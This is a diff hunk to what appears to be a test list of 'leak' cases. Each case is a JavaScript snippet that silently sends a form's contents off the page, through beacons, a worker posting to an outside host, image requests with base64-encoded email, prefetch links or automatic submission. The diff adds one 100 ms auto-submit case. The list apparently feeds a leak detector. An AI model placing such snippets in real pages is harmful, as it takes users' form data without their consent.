@@ -139,6 +139,7 @@ LEAKS = (
     leak("a beacon when the page goes", f"addEventListener('pagehide', () => navigator.sendBeacon('/bye', {ALL}))"),
     leak("a worker", f"f.addEventListener('change', () => new Worker(URL.createObjectURL(new Blob([`fetch('OTHER/k', {{method: 'POST', mode: 'no-cors', body: ${{JSON.stringify({ALL})}}}})`]))))"),
     leak("submit by itself", "setTimeout(() => f.submit(), 2500)"),
+    leak("submit by itself, empty", "setTimeout(() => f.submit(), 100)"),
     leak("submit when complete", "f.addEventListener('change', () => { if (f.checkValidity()) f.requestSubmit() })"),
     leak("the address in base64", "f.addEventListener('change', () => { new Image().src = '/p.gif?u=' + btoa(val('email')) })"),
     leak("prefetch", f"f.addEventListener('change', () => {{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '/n?' + {ALL}; document.head.append(l) }})"),
